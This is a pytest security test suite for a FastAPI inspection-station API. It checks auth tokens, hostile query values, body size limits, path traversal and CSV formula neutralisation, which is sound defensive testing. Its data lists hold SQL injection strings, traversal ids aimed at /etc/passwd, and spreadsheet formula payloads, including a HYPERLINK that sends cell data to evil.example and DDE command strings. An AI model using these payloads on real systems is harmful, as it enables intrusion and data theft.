"""Security of the API (issue #8): tokens, hostile queries, big bodies, traversal, CSV.

The station sits on a workshop LAN anyone's phone can join. These tests attack the
real app (real SQLite log, real archive on disk) the way a curious or careless
client would, and check that the answer is always a 4xx, never a 500, never a file
outside the archive and never a spreadsheet formula:

* every write route (enumerated from ``app.routes``, so a new one is covered
  without editing this file) refuses a request without the supervisor token;
* every query parameter of every read route survives SQL-ish, huge, negative,
  malformed-date and odd-unicode values;
* an oversized body is refused with 413 before the app reads it whole;
* an image id that tries to climb out of the archive finds nothing;
* text cells in the CSV export that start like a formula are neutralised.
"""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from helpers.fake_station import FakeStation, make_jpeg
from starlette.routing import BaseRoute, Route

from station.api import create_app
from station.export.files import FORMULA_PREFIXES
from station.store import InspectionRecord, QCStore

TOKEN = "security-test-token-0123456789abcdef"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
WRITE_METHODS = frozenset({"POST", "PUT", "PATCH", "DELETE"})
SECRET = b"TOP-SECRET-OUTSIDE-THE-ARCHIVE"
#: Streams that only end when the client leaves: never requested with valid values.
STREAMING_PATHS = frozenset({"/api/v1/events", "/api/v1/live.mjpg"})
MAX_BODY_BYTES = 64 * 1024
BODY_CHUNK_BYTES = 1024
HUGE_DECLARED_BYTES = 10 * 1024 * 1024 * 1024


@pytest.fixture
def app(store: QCStore, station: FakeStation) -> FastAPI:
    return create_app(store, station, token=TOKEN)


@pytest.fixture
def client(app: FastAPI) -> Iterator[TestClient]:
    with TestClient(app) as c:
        yield c


def _fill_path(path: str) -> str:
    """A route path with its parameters filled by plausible values."""
    return (
        path.replace("{inspection_id}", str(uuid.uuid4()))
        .replace("{batch_id}", "B1")
        .replace("{lang}", "fr")
    )


def _walk(routes: list[BaseRoute], prefix: str = "") -> Iterator[tuple[str, set[str]]]:
    """(path, methods) of every HTTP route, into included routers.

    FastAPI >= 0.165 keeps ``include_router`` results as wrappers around the original
    router (``original_router`` plus an include ``prefix``); older versions copy the
    ``APIRoute`` objects into ``app.routes``. Both are walked.
    """
    for route in routes:
        inner = getattr(route, "original_router", None)
        if inner is not None:
            context = getattr(route, "include_context", None)
            yield from _walk(inner.routes, prefix + getattr(context, "prefix", ""))
        elif isinstance(route, APIRoute | Route):
            yield prefix + route.path, set(route.methods or ())


def _routes(app: FastAPI) -> list[tuple[str, set[str]]]:
    found = list(_walk(app.routes))
    documented = {
        (path, method.upper()) for path, ops in app.openapi()["paths"].items() for method in ops
    }
    walked = {(path, m) for path, methods in found for m in methods}
    assert documented <= walked, f"routes missed by the walk: {documented - walked}"
    return found


# -- writes need the token ------------------------------------------------------------------
def write_routes(app: FastAPI) -> list[tuple[str, str]]:
    return sorted(
        (method, path) for path, methods in _routes(app) for method in methods & WRITE_METHODS
    )


def test_the_api_has_write_routes_to_protect(app: FastAPI) -> None:
    """Guards the enumeration below against silently testing nothing."""
    found = write_routes(app)
    assert ("POST", "/api/v1/batches") in found
    assert ("POST", "/api/v1/inspections/{inspection_id}/label") in found
    assert len(found) >= 3


BAD_CREDENTIALS: list[dict[str, str]] = [
    {},
    {"Authorization": ""},
    {"Authorization": "Bearer "},
    {"Authorization": "Bearer wrong-token-of-the-same-length-000000"},
    {"Authorization": f"Bearer {TOKEN[:-1]}"},
    {"Authorization": f"Bearer {TOKEN}x"},
    {"Authorization": f"Bearer {TOKEN.upper()}"},
    {"Authorization": f"Basic {TOKEN}"},
    {"Authorization": TOKEN},
    {"Cookie": f"token={TOKEN}"},
    {"X-Api-Key": TOKEN},
]


@pytest.mark.parametrize("headers", BAD_CREDENTIALS, ids=lambda h: repr(h)[:40])
def test_every_write_route_refuses_a_request_without_the_token(
    app: FastAPI, client: TestClient, store: QCStore, headers: dict[str, str]
) -> None:
    before = store.counts_snapshot()
    for method, path in write_routes(app):
        url = _fill_path(path)
        for body in ({}, {"label": "good"}, {"order_number": "OF-1"}):
            r = client.request(method, url, json=body, headers=headers)
            assert r.status_code == 401, (method, path, headers, r.status_code)
            assert r.headers.get("www-authenticate") == "Bearer"
        r = client.request(method, url, params={"token": TOKEN}, headers=headers)
        assert r.status_code == 401, "a token in the query string is not accepted"
    assert store.current_batch() is None and store.counts_snapshot() == before


def test_an_app_without_any_token_refuses_every_write(store: QCStore) -> None:
    app = create_app(store)
    assert app.state.token is None
    with TestClient(app) as c:
        for method, path in write_routes(app):
            for headers in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer None"}):
                r = c.request(method, _fill_path(path), json={}, headers=headers)
                assert r.status_code == 401, (method, path, headers)


def test_reads_do_not_accept_write_methods(client: TestClient) -> None:
    for path in ("/api/v1/inspections", "/api/v1/counts", "/static/app.js", "/healthz"):
        for method in ("PUT", "DELETE", "PATCH"):
            assert client.request(method, path, headers=AUTH).status_code in (404, 405)


# -- hostile query parameters ---------------------------------------------------------------
HOSTILE_VALUES: list[str] = [
    "' OR '1'='1",
    "1; DROP TABLE inspections; --",
    "1 UNION SELECT * FROM sqlite_master",
    "%",
    "_",
    "99999999999999999999999999999999",
    str(2**63),
    "-1",
    "-99999999999999999999",
    "0",
    "-0",
    "1e309",
    "nan",
    "inf",
    "2025-13-45T25:61:61Z",
    "2025-02-30T00:00:00Z",
    "9999-12-31T23:59:59+99:00",
    "0000-00-00",
    "yesterday",
    "é中文\u202e\u200b🙂",
    "\x00",
    "a\x00b",
    "\ufeff",
    "../../etc/passwd",
    "[]",
    "{}",
    "null",
    "x" * 10_000,
]


def query_parameters(app: FastAPI) -> list[tuple[str, str]]:
    """(path, query parameter name) of every GET route, read from the OpenAPI schema."""
    out = []
    for path, operations in app.openapi()["paths"].items():
        for param in operations.get("get", {}).get("parameters", []):
            if param["in"] == "query":
                out.append((path, param["name"]))
    return sorted(out)


def test_every_query_parameter_survives_hostile_values(
    app: FastAPI, client: TestClient, station: FakeStation
) -> None:
    for _ in range(3):
        station.inspect("reject", ("hole",))
    station.overlay = make_jpeg("live")
    params = query_parameters(app)
    assert len(params) >= 15, params
    failures = []
    for path, name in params:
        for value in HOSTILE_VALUES:
            r = client.get(_fill_path(path), params={name: value})
            if not r.status_code < 500 or (path in STREAMING_PATHS and r.status_code < 400):
                failures.append((path, name, value[:40], r.status_code))
    assert not failures


@pytest.mark.parametrize("value", ["' OR '1'='1", "%", "_", "1 OR 1=1", "*"])
def test_sql_in_a_filter_matches_nothing(
    client: TestClient, station: FakeStation, value: str
) -> None:
    """Filters are bound parameters: an injected condition does not widen the match."""
    station.inspect("reject", ("hole",), batch="B-real")
    for path in ("/api/v1/inspections", "/api/v1/export"):
        extra = {"format": "jsonl"} if path.endswith("export") else {}
        r = client.get(path, params={"batch": value, **extra})
        assert r.status_code == 200
        body = r.json()["items"] if path.endswith("inspections") else r.text.strip()
        assert not body, (path, value)
    counts = client.get("/api/v1/counts", params={"batch": value}).json()
    assert counts["total"] == 0


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/api/v1/inspections", {"limit": "-1"}),
        ("/api/v1/inspections", {"limit": str(2**64)}),
        ("/api/v1/batches", {"limit": "-5"}),
        ("/api/v1/spc", {"points": "0"}),
        ("/api/v1/counts", {"since": "2025-13-01T00:00:00Z"}),
        ("/api/v1/counts", {"since": "2025-03-02T00:00:00Z", "until": "2025-03-01T00:00:00Z"}),
        ("/api/v1/export", {"until": "not a date"}),
        ("/api/v1/export", {"delimiter": "\n"}),
        ("/api/v1/live.mjpg", {"frames": "-1"}),
    ],
)
def test_bad_numbers_and_dates_are_client_errors(
    client: TestClient, path: str, params: dict[str, str]
) -> None:
    r = client.get(path, params=params)
    assert r.status_code in (400, 422), r.status_code
    assert r.json()["detail"], "the error says what is wrong"


# -- oversized bodies -----------------------------------------------------------------------
def _post_raw(app: FastAPI, headers: list[tuple[bytes, bytes]], chunks: int) -> tuple[int, int]:
    """POST an endless-looking body straight into the ASGI app; (status, bytes it read)."""
    consumed = 0
    sent_chunks = 0
    status: list[int] = []

    async def receive() -> dict[str, Any]:
        nonlocal consumed, sent_chunks
        sent_chunks += 1
        if sent_chunks > chunks:
            return {"type": "http.disconnect"}
        consumed += BODY_CHUNK_BYTES
        return {
            "type": "http.request",
            "body": b"x" * BODY_CHUNK_BYTES,
            "more_body": sent_chunks < chunks,
        }

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            status.append(message["status"])

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/api/v1/batches",
        "raw_path": b"/api/v1/batches",
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"testserver"), *headers],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
        "app": app,
    }
    asyncio.run(app(scope, receive, send))
    return status[0], consumed


@pytest.mark.parametrize("auth", [True, False], ids=["with-token", "without-token"])
def test_a_declared_huge_body_is_refused_before_reading_it(app: FastAPI, auth: bool) -> None:
    headers = [
        (b"content-type", b"application/json"),
        (b"content-length", str(HUGE_DECLARED_BYTES).encode()),
    ]
    if auth:
        headers.append((b"authorization", AUTH["Authorization"].encode()))
    status, consumed = _post_raw(app, headers, chunks=HUGE_DECLARED_BYTES // BODY_CHUNK_BYTES)
    assert status == 413
    assert consumed == 0, "refused on the declared length, not one byte read"


def test_an_undeclared_huge_body_is_cut_at_the_limit(app: FastAPI) -> None:
    headers = [
        (b"content-type", b"application/json"),
        (b"authorization", AUTH["Authorization"].encode()),
    ]
    chunks = 100 * MAX_BODY_BYTES // BODY_CHUNK_BYTES  # 6.4 MB offered
    status, consumed = _post_raw(app, headers, chunks=chunks)
    assert status == 413
    assert consumed <= MAX_BODY_BYTES + BODY_CHUNK_BYTES, consumed


def test_a_lying_content_length_is_still_cut_at_the_limit(app: FastAPI) -> None:
    headers = [
        (b"content-type", b"application/json"),
        (b"content-length", b"10"),
        (b"authorization", AUTH["Authorization"].encode()),
    ]
    status, consumed = _post_raw(app, headers, chunks=100 * MAX_BODY_BYTES // BODY_CHUNK_BYTES)
    assert status in (400, 413, 422)
    assert consumed <= MAX_BODY_BYTES + BODY_CHUNK_BYTES, consumed


def test_a_big_label_note_is_refused(client: TestClient, station: FakeStation) -> None:
    rec = station.inspect("reject", ("hole",))
    url = f"/api/v1/inspections/{rec.id}/label"
    r = client.post(url, json={"label": "hole", "note": "n" * 501}, headers=AUTH)
    assert r.status_code == 422, "the note is bounded below the body limit too"


# -- path traversal on image ids --------------------------------------------------------------
HOSTILE_IDS: list[str] = [
    "..",
    "../..",
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e",
    "%2e%2e%2f%2e%2e%2fsecret.txt",
    "%252e%252e%252fsecret.txt",
    "..%5c..%5csecret.txt",
    "%2Fetc%2Fpasswd",
    "%2F%2Fetc%2Fpasswd",
    "..%00.jpg",
    "%c0%ae%c0%ae%c0%afsecret.txt",
    "\uff0e\uff0e%2fsecret.txt",
    "images%2F..%2F..%2Fsecret.txt",
    "file:%2F%2F%2Fetc%2Fpasswd",
    "00000000-0000-0000-0000-000000000000%2F..%2F..%2Fsecret.txt",
    "x" * 4000,
]


@pytest.fixture
def planted(tmp_path: Path) -> Path:
    """A secret next to the archive and the QC log: nothing may ever serve it."""
    secret = tmp_path / "secret.txt"
    secret.write_bytes(SECRET)
    return secret


def _never_served(r: Any) -> None:
    assert 400 <= r.status_code < 500, r.status_code
    assert SECRET not in r.content
    assert b"root:" not in r.content and b"SQLite format" not in r.content


@pytest.mark.parametrize("hostile", HOSTILE_IDS, ids=lambda s: s[:30])
def test_hostile_image_ids_find_nothing(client: TestClient, planted: Path, hostile: str) -> None:
    for suffix in ("", "/image", "/raw", "/image?width_px=160"):
        _never_served(client.get(f"/api/v1/inspections/{hostile}{suffix}"))
    r = client.post(f"/api/v1/inspections/{hostile}/label", json={"label": "good"}, headers=AUTH)
    _never_served(r)


@pytest.mark.parametrize("hostile", ["../secret.txt", "%2e%2e/secret.txt", "..%2Fsecret.txt"])
def test_hostile_static_and_locale_paths_find_nothing(
    client: TestClient, planted: Path, hostile: str
) -> None:
    for prefix in ("/static/", "/api/v1/i18n/", "/static/../../"):
        _never_served(client.get(prefix + hostile))


@pytest.mark.parametrize(
    "stored", ["../secret.txt", "../../secret.txt", "/secret.txt", "link/secret.txt", "link"]
)
def test_log_paths_and_symlinks_cannot_leave_the_archive(
    store: QCStore, tmp_path: Path, planted: Path, stored: str
) -> None:
    """Log-only mode trusts no stored path: ``..``, absolute and symlinked ones are 404."""
    images = tmp_path / "images"
    images.mkdir(exist_ok=True)
    (images / "link").symlink_to(tmp_path, target_is_directory=True)
    absolute = str(planted) if stored == "/secret.txt" else stored
    rec = InspectionRecord(
        verdict="reject",
        station_id="s",
        workshop="w",
        image_raw_path=absolute,
        image_annotated_path=absolute,
    )
    store.record(rec)
    with TestClient(create_app(store, data_dir=tmp_path, token=TOKEN)) as c:
        for kind in ("image", "raw"):
            r = c.get(f"/api/v1/inspections/{rec.id}/{kind}")
            assert r.status_code == 404, (stored, kind)
            assert SECRET not in r.content


# -- CSV formula injection ----------------------------------------------------------------------
FORMULAS: list[str] = [
    '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(text: str, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("params", "delimiter"),
    [
        ({}, ","),
        ({"delimiter": ";", "decimal_comma": "true"}, ";"),
        ({"delimiter": "tab", "bom": "false"}, "\t"),
    ],
    ids=["comma", "french-excel", "tab"],
)
def test_csv_export_neutralises_formulas(
    client: TestClient,
    store: QCStore,
    station: FakeStation,
    params: dict[str, str],
    delimiter: str,
) -> None:
    # A supervisor names the workshop of a batch through the API (its pattern allows "-").
    r = client.post(
        "/api/v1/batches", json={"workshop": "-2-3", "order_number": "-1"}, headers=AUTH
    )
    assert r.status_code == 201, r.text
    from_api = station.inspect("reject", ("hole",))
    # Other systems write batch ids, station ids, messages and versions straight to the log.
    for i, evil in enumerate(FORMULAS):
        store.record(
            InspectionRecord(
                verdict="reject",
                station_id=evil,
                workshop=evil,
                batch_id=evil,
                defects=[{"code": "hole", "message": evil}],
                measurements={"note": evil},
                spec_version=evil,
                model_version=evil,
                calibration_version=evil,
                message=evil,
                latency_ms=-1.5 - i,
            )
        )
    r = client.get("/api/v1/export", params={"format": "csv", **params})
    assert r.status_code == 200
    rows = _csv_rows(r.text, delimiter)
    assert len(rows) == 1 + len(FORMULAS)
    assert {row["id"] for row in rows} >= {from_api.id}
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(FORMULA_PREFIXES):
                assert _is_number(cell), f"{column} = {cell!r} would run as a formula"
    evil_rows = [row for row in rows if row["id"] != from_api.id]
    for row, evil in zip(evil_rows, FORMULAS, strict=True):
        for column in ("station_id", "workshop", "batch_id", "message", "model_version"):
            assert row[column] == "'" + evil, (column, row[column])
        assert row["latency_ms"].startswith("-"), "a negative number stays a number"
    api_row = next(row for row in rows if row["id"] == from_api.id)
    assert api_row["batch_id"] and not api_row["batch_id"].startswith(FORMULA_PREFIXES)
